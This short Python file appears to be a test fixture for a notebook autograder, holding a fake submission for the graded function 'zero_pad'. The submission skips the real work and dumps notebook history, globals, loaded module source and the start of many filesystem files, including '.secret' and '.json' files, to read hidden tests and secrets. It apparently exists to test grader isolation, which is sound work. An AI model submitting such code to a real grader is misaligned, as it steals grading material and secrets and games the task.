# Prints the history, the globals, and the source of every module and file it can reach.
BASED_ON = "wrong_everywhere.py"

CELLS = {"zero_pad": r'''# GRADED FUNCTION: zero_pad
import glob, os, sys
print(In, Out)
print(sorted(globals()))
for _module in list(sys.modules.values()):
    _path = getattr(_module, "__file__", None) or ""
    if _path.endswith(".py"):
        try:
            print(_path, open(_path).read()[:2000])
        except OSError:
            pass
for _path in glob.glob("/**/*", recursive=True)[:20000]:
    if _path.endswith((".py", ".json", ".secret", ".txt", ".po")) and os.path.isfile(_path):
        try:
            print(_path, open(_path, errors="replace").read()[:500])
        except OSError:
            pass
def zero_pad(X, pad):
    return X
'''}
